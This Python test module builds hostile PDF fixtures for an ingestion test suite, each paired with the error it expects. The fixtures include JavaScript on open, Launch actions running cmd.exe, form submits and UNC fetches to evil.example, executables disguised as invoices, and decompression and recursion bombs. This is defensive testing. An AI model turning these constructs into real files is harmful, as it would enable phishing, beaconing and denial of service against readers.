"""Hostile PDFs: active content, encryption, damage, structures without end, bombs."""

from __future__ import annotations

import zlib
from functools import partial

from pikepdf import Dictionary, Encryption, Name, Pdf

from tests.golden.hostile.case import READ, Hostile, hostile, slow
from tests.golden.hostile.pdf_bytes import FONT, TEXT, flate, one_page, saved, stream, written, zeros

_JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_ACTIVE, _CORRUPT, _SIZE, _ENCRYPTED = "ING-ACTIVE", "ING-CORRUPT", "ING-SIZE", "ING-ENCRYPTED"
_LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] %s >>]"


def _action(action: bytes) -> bytes:
    return one_page(root=b"/OpenAction " + action)


def _attached(name: bytes, content: bytes) -> bytes:
    return one_page(
        root=b"/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> >>",
        more={6: b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 7 0 R >> >>" % (name, name), 7: flate(content)},
    )


def _pinned(name: bytes, content: bytes) -> bytes:
    """A file pinned to the page as an annotation instead of listed in the names."""
    return one_page(
        page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]",
        more={6: b"<< /Type /Filespec /F (%s) /EF << /F 7 0 R >> >>" % name, 7: flate(content)},
    )


def _chain(length: int) -> bytes:
    chain = b"<< /S /GoTo /D [3 0 R /Fit] /Next "
    return _action(chain * length + _JS + b" >>" * length)


def _with_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="1")


ACTIVE = [
    hostile("script when opened", partial(_action, _JS), _ACTIVE),
    hostile("script under an encoded name", partial(_action, b"<< /S /J#61vaScript /J#53 (1) >>"), _ACTIVE),
    hostile(
        "script in a stream",
        lambda: one_page(root=b"/OpenAction << /S /JavaScript /JS 6 0 R >>", more={6: flate(b"1")}),
        _ACTIVE,
    ),
    hostile("script without its kind", partial(_action, b"<< /JS (1) >>"), _ACTIVE),
    hostile("script by name", lambda: one_page(root=b"/Names << /JavaScript << /Names [(a) %s] >> >>" % _JS), _ACTIVE),
    hostile("script when the document closes", lambda: one_page(root=b"/AA << /WC %s >>" % _JS), _ACTIVE),
    hostile("script when a page opens", lambda: one_page(page=b"/AA << /O %s >>" % _JS), _ACTIVE),
    hostile("script behind a link", lambda: one_page(page=_LINK % (b"/A " + _JS)), _ACTIVE),
    hostile("script under the mouse", lambda: one_page(page=_LINK % (b"/AA << /E %s >>" % _JS)), _ACTIVE),
    hostile("script behind other actions", partial(_chain, 5), _ACTIVE),
    hostile("script behind a thousand actions", partial(_chain, 1000), _ACTIVE, _SIZE, _CORRUPT),
    hostile(
        "script in a form field",
        lambda: one_page(root=b"/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K %s >> >>] >>" % _JS),
        _ACTIVE,
    ),
    hostile(
        "script in a field of a field",
        lambda: one_page(root=b"/AcroForm << /Fields [<< /T (a) /Kids [<< /FT /Tx /T (b) /AA << /C %s >> >>] >>] >>" % _JS),
        _ACTIVE,
    ),
    hostile(
        "script in an outline", lambda: one_page(root=b"/Outlines << /First << /Title (a) /A %s >> /Count 1 >>" % _JS), _ACTIVE
    ),
    hostile(
        "starts a program", partial(_action, b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"), _ACTIVE
    ),
    hostile("starts a program by a link", lambda: one_page(page=_LINK % b"/A << /S /Launch /F (a.bat) >>"), _ACTIVE),
    hostile("imports data", partial(_action, b"<< /S /ImportData /F (\\\\\\\\evil\\\\x) >>"), _ACTIVE),
    hostile("sends a form when opened", partial(_action, b"<< /S /SubmitForm /F (http://evil.example) >>"), _ACTIVE),
    hostile("opens an address by itself", partial(_action, b"<< /S /URI /URI (http://evil.example/track) >>"), _ACTIVE),
    hostile(
        "opens an address when a page opens",
        lambda: one_page(page=b"/AA << /O << /S /URI /URI (http://evil.example) >> >>"),
        _ACTIVE,
    ),
    hostile(
        "opens a file of another machine by itself",
        partial(_action, b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
        _ACTIVE,
    ),
    hostile(
        "opens an embedded file by itself", partial(_action, b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >>"), _ACTIVE
    ),
    hostile("plays media with a script", partial(_action, b"<< /S /Rendition /OP 0 /JS (1) >>"), _ACTIVE),
    hostile("runs a command of rich media", partial(_action, b"<< /S /RichMediaExecute /CMD << /C (x) >> >>"), _ACTIVE),
    hostile("rich media", lambda: one_page(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"), _ACTIVE),
    hostile(
        "three dimensions with a script",
        lambda: one_page(
            page=b"/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]",
            more={6: stream(b"x", b"/Type /3D /Subtype /U3D /OnInstantiate 7 0 R"), 7: stream(b"1")},
        ),
        _ACTIVE,
    ),
    hostile(
        "XFA with a script",
        lambda: one_page(
            root=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
            more={6: flate(b'<xdp:xdp xmlns:xdp="x"><script contentType="application/x-javascript">1</script></xdp:xdp>')},
        ),
        _ACTIVE,
    ),
    hostile(
        "XFA in parts with a script",
        lambda: one_page(
            root=b"/AcroForm << /Fields [] /XFA [(a) 6 0 R (b) 7 0 R] >>",
            more={6: flate(b"<xdp:xdp>"), 7: flate(b"<event><script>1</script></event></xdp:xdp>")},
        ),
        _ACTIVE,
    ),
    hostile(
        "XFA without a script",
        lambda: one_page(root=b"/AcroForm << /Fields [] /XFA 6 0 R >>", more={6: flate(b"<xdp:xdp></xdp:xdp>")}),
        READ,
    ),
    hostile("a program attached", partial(_attached, b"invoice.exe", b"MZ\x90"), _ACTIVE),
    hostile("a program attached under another name", partial(_attached, b"invoice.txt", b"MZ\x90\x00\x03"), _ACTIVE),
    hostile("a script attached", partial(_attached, b"a.js", b"WScript.Echo(1)"), _ACTIVE),
    hostile("an Excel file with macros attached", partial(_attached, b"a.xlsm", b"PK\x03\x04"), _ACTIVE),
    hostile("a program pinned to the page", partial(_pinned, b"a.exe", b"MZ\x90"), _ACTIVE),
    hostile("a program pinned under another name", partial(_pinned, b"a.pdf", b"\x7fELF\x02"), _ACTIVE),
    hostile("a text attached", partial(_attached, b"note.txt", b"delivery on Monday"), READ),
    hostile("a link to a website", lambda: one_page(page=_LINK % b"/A << /S /URI /URI (https://kestrel.example) >>"), READ),
    hostile(
        "an XML with entities attached",
        partial(
            _attached,
            b"factur-x.xml",
            b'<!DOCTYPE a [<!ENTITY b "c">]><rsm:CrossIndustryInvoice>&b;</rsm:CrossIndustryInvoice>',
        ),
        _ACTIVE,
    ),
    hostile("an attachment bomb", lambda: _attached(b"factur-x.xml", bytes(60_000_000)), _SIZE),
    hostile(
        "script in a file with an owner's password",
        lambda: saved(_with_script, encryption=Encryption(owner="o", user="")),
        _ACTIVE,
    ),
]


def _encrypted(*, user: str, r: int, aes: bool) -> bytes:
    return saved(encryption=Encryption(owner="owner", user=user, R=r, aes=aes, metadata=aes))


_ALGORITHMS = (("RC4 40", 2, False), ("RC4 128", 3, False), ("AES 128", 4, True), ("AES 256", 6, True))
ENCRYPTED = [
    *(
        hostile(f"a password to open, {n}", partial(_encrypted, user="secret", r=r, aes=a), _ENCRYPTED)
        for n, r, a in _ALGORITHMS
    ),
    *(hostile(f"an owner's password alone, {n}", partial(_encrypted, user="", r=r, aes=a), READ) for n, r, a in _ALGORITHMS),
    hostile(
        "encrypted for certificates",
        lambda: written(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R >>",
                2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
                4: b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s4 /V 4 /Recipients [<00>] >>",
            },
            trailer=b"/Root 1 0 R /Encrypt 4 0 R /ID [<00><00>]",
        ),
        _ENCRYPTED,
    ),
    hostile(
        "encrypted by an unknown method",
        lambda: written(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R >>",
                2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
                4: b"<< /Filter /NoSuch /V 99 >>",
            },
            trailer=b"/Root 1 0 R /Encrypt 4 0 R /ID [<00><00>]",
        ),
        _ENCRYPTED,
        _CORRUPT,
    ),
]


def _cut(share: float) -> bytes:
    whole = saved(pages=3)
    return whole[: int(len(whole) * share)]


def _pages(body: bytes, **more: bytes) -> bytes:
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: body, 4: stream(TEXT), 5: FONT}
    return written(objects | {int(k[1:]): v for k, v in more.items()})


def _previous_is_itself() -> bytes:
    pdf = one_page()
    return pdf.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % pdf.index(b"xref\n"))


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"


def _image(content: bytes, extra: bytes) -> bytes:
    return stream(content, b"/Type /XObject /Subtype /Image /Width 99 /Height 99 " + extra)


def _pictured(image: bytes) -> bytes:
    """A page that shows one picture and nothing else."""
    return one_page(stream(b"/I Do"), resources=b"/XObject << /I 6 0 R >>", more={6: image})


DAMAGED = [
    *(hostile(f"cut at {share:.0%}", partial(_cut, share), _CORRUPT) for share in (0.05, 0.3, 0.6, 0.9, 0.98)),
    hostile("a header alone", lambda: b"%PDF-1.7\n", _CORRUPT),
    hostile("a header and an end", lambda: b"%PDF-1.7\n%%EOF\n", _CORRUPT),
    hostile("no cross-reference", lambda: one_page().replace(b"xref\n", b"xxxx\n"), READ, _CORRUPT),
    hostile("cross-reference to nowhere", lambda: one_page().replace(b"startxref\n", b"startxref\n9"), READ, _CORRUPT),
    hostile("previous cross-reference is itself", _previous_is_itself, READ, _CORRUPT),
    hostile("no catalog", lambda: written({2: b"<< /Type /Pages /Kids [] /Count 0 >>"}, trailer=b"/Root 9 0 R"), _CORRUPT),
    hostile("no page tree", lambda: written({1: b"<< /Type /Catalog >>"}), _CORRUPT),
    hostile("no pages", lambda: _pages(b"<< /Type /Pages /Kids [] /Count 0 >>"), _CORRUPT),
    hostile("a page tree that is its own child", lambda: _pages(b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), _CORRUPT),
    hostile(
        "two page trees that are each other's children",
        lambda: _pages(
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _3=b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"
        ),
        _CORRUPT,
    ),
    hostile(
        "a billion pages",
        lambda: _pages(b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>", _3=_PAGE),
        READ,
        _CORRUPT,
        _SIZE,
    ),
    hostile("fewer than no pages", lambda: _pages(b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>", _3=_PAGE), READ, _CORRUPT),
    hostile(
        "the same page again and again",
        lambda: _pages(b"<< /Type /Pages /Kids [%s] /Count 500 >>" % (b"3 0 R " * 500), _3=_PAGE),
        _SIZE,
        _CORRUPT,
    ),
    hostile(
        "a page that is a number",
        lambda: _pages(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _3=b"42"),
        _CORRUPT,
        READ,
        "EXT-NOTEXT",
    ),
    hostile("201 pages", lambda: saved(pages=201), _SIZE),
    hostile(
        "a content stream that does not decompress",
        lambda: one_page(stream(b"\x78\x9cgarbage", b"/Filter /FlateDecode")),
        _CORRUPT,
    ),
    hostile(
        "a content stream of an unknown filter",
        lambda: one_page(stream(TEXT, b"/Filter /NoSuch")),
        _CORRUPT,
        "EXT-NOTEXT",
        READ,
    ),
    hostile(
        "a stream that says it is longer",
        lambda: one_page(b"<< /Length 999999 >>\nstream\n%s\nendstream" % TEXT),
        READ,
        _CORRUPT,
        "EXT-NOTEXT",
    ),
    hostile(
        "a stream of negative length",
        lambda: one_page(b"<< /Length -1 >>\nstream\n%s\nendstream" % TEXT),
        READ,
        _CORRUPT,
        "EXT-NOTEXT",
    ),
    hostile("a content stream that is the page", lambda: one_page(page=b"/Contents 3 0 R"), READ, _CORRUPT, "EXT-NOTEXT"),
    hostile("no box", lambda: one_page(box=b""), READ, _CORRUPT, "EXT-NOTEXT"),
    hostile("a box without a width", lambda: one_page(box=b"0 0 0 0"), READ, _CORRUPT, "EXT-NOTEXT"),
    hostile("a box upside down", lambda: one_page(box=b"612 792 0 0"), READ),
    hostile("a box of words", lambda: one_page(box=b"/a (b) [] <<>>"), READ, _CORRUPT, "EXT-NOTEXT"),
    hostile("a page of forty kilometres", lambda: one_page(box=b"0 0 99999999 99999999"), READ, _SIZE, _CORRUPT, "EXT-NOTEXT"),
    hostile("turned by 45 degrees", lambda: one_page(page=b"/Rotate 45"), READ, _CORRUPT),
    hostile(
        "a garbage font",
        lambda: one_page(more={6: flate(b"\x00\x01\x00\x00garbage" * 99)}).replace(
            b"/BaseFont /Helvetica", b"/BaseFont /ABCDEF+X /FontDescriptor << /FontFile2 6 0 R /Flags 4 /FontName /ABCDEF+X >>"
        ),
        READ,
        _CORRUPT,
        "EXT-NOTEXT",
    ),
    slow(
        hostile(
            "a garbage picture",
            lambda: _pictured(
                _image(b"\xff\xd8garbage" * 50, b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode")
            ),
            "EXT-NOTEXT",
            _CORRUPT,
            READ,
        )
    ),
    slow(
        hostile(
            "a garbage JBIG2 picture",
            lambda: _pictured(
                _image(b"\x00\x00\x00\x01" * 90, b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode")
            ),
            "EXT-NOTEXT",
            _CORRUPT,
            READ,
        )
    ),
    slow(
        hostile(
            "a garbage JPEG 2000 picture",
            lambda: _pictured(_image(b"\x00\x00\x00\x0cjP  \r\n\x87\n" * 30, b"/Filter /JPXDecode")),
            "EXT-NOTEXT",
            _CORRUPT,
            READ,
        )
    ),
    hostile(
        "an inline picture without end",
        lambda: one_page(stream(TEXT + b" BI /W 9 /H 9 /BPC 8 /CS /G ID " + bytes(99))),
        READ,
        _CORRUPT,
        "EXT-NOTEXT",
    ),
]


def _layers(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter [%s]" % (b"/FlateDecode " * (times + 1)))


def _deep(opening: bytes, closing: bytes, depth: int) -> bytes:
    return one_page(root=b"/X " + opening * depth + closing * depth)


def _page_tree(depth: int) -> bytes:
    inner = {
        n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1 if n > 6 else 2, n + 1)
        for n in range(6, depth)
    }
    return _pages(
        b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>", **{f"_{n}": body for n, body in inner.items()}, **{f"_{depth}": _PAGE}
    )


def _calls_itself() -> bytes:
    form = stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>", more={6: form})


def _laughs() -> bytes:
    """Each form draws the next ten times: ten billion drawings."""
    forms = {
        n: stream(
            b"/X Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % (n + 1)
        )
        for n in range(6, 16)
    }
    last = stream(TEXT, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>")
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>", more={**forms, 16: last})


BOMBS = [
    slow(
        hostile(
            "a content stream of a gigabyte",
            lambda: one_page(stream(zeros(1_000_000_000), b"/Filter /FlateDecode")),
            _SIZE,
            _CORRUPT,
            "EXT-NOTEXT",
        )
    ),
    slow(
        hostile(
            "a content stream compressed three times",
            lambda: one_page(_layers(zeros(300_000_000), 2)),
            _SIZE,
            _CORRUPT,
            "EXT-NOTEXT",
        )
    ),
    hostile(
        "a run-length bomb",
        lambda: one_page(stream(b"\x81 " * 4_000_000 + b"\x80", b"/Filter /RunLengthDecode")),
        _SIZE,
        READ,
        _CORRUPT,
        "EXT-NOTEXT",
    ),
    slow(
        hostile(
            "a picture of ten gigapixels",
            lambda: one_page(
                stream(b"600 0 0 700 0 0 cm /I Do"),
                resources=b"/XObject << /I 6 0 R >>",
                more={
                    6: stream(
                        zeros(100_000_000),
                        b"/Filter /FlateDecode /Type /XObject /Subtype /Image "
                        b"/Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8",
                    )
                },
            ),
            _SIZE,
            _CORRUPT,
            "EXT-NOTEXT",
        )
    ),
    hostile("arrays in arrays", partial(_deep, b"[", b"]", 100_000), READ, _CORRUPT, _SIZE),
    hostile("dictionaries in dictionaries", partial(_deep, b"<</A", b">>", 100_000), READ, _CORRUPT, _SIZE),
    hostile("arrays that never close", lambda: one_page(root=b"/X " + b"[" * 100_000), READ, _CORRUPT, _SIZE),
    hostile("a page tree 3,000 deep", partial(_page_tree, 3000), READ, _CORRUPT, _SIZE),
    hostile("graphics states never given back", lambda: one_page(stream(b"q " * 500_000 + TEXT)), READ, _CORRUPT, _SIZE),
    hostile("a form that draws itself", _calls_itself, "EXT-NOTEXT", _CORRUPT, _SIZE),
    slow(hostile("ten billion drawings", _laughs, READ, _CORRUPT, _SIZE, "EXT-NOTEXT")),
    slow(
        hostile(
            "30,000 links",
            lambda: one_page(page=b"/Annots [%s]" % (b"<< /Subtype /Link /A << /S /URI /URI (x) >> >> " * 30_000)),
            _SIZE,
        )
    ),
    slow(
        hostile(
            "a million words",
            lambda: one_page(flate(b"BT /F1 9 Tf %s ET" % (b"1 1 Td (word) Tj " * 1_000_000))),
            READ,
            _SIZE,
            _CORRUPT,
            "EXT-NOTEXT",
        )
    ),
    slow(
        hostile(
            "a million curves",
            lambda: one_page(flate(TEXT + b" 0 0 m " + b"1 2 3 4 5 6 c " * 1_000_000 + b"S")),
            READ,
            _SIZE,
            _CORRUPT,
        )
    ),
    hostile(
        "a character map of everything many times",
        lambda: one_page(
            more={
                6: flate(
                    b"/CIDInit /ProcSet findresource begin 1 begincodespacerange <0000> <FFFF> endcodespacerange "
                    + b"1 beginbfrange <0000> <FFFF> <0000> endbfrange " * 3000
                )
            }
        ).replace(b"/BaseFont /Helvetica", b"/BaseFont /Helvetica /ToUnicode 6 0 R"),
        READ,
        _SIZE,
        _CORRUPT,
        "EXT-NOTEXT",
    ),
    slow(
        hostile(
            "half a million objects",
            lambda: written(
                {
                    1: b"<< /Type /Catalog /Pages 2 0 R >>",
                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    3: _PAGE,
                    4: stream(TEXT),
                    5: FONT,
                    **dict.fromkeys(range(6, 500000), b"null"),
                }
            ),
            READ,
            _SIZE,
            _CORRUPT,
        )
    ),
]

PDFS: list[Hostile] = [*ACTIVE, *ENCRYPTED, *DAMAGED, *BOMBS]
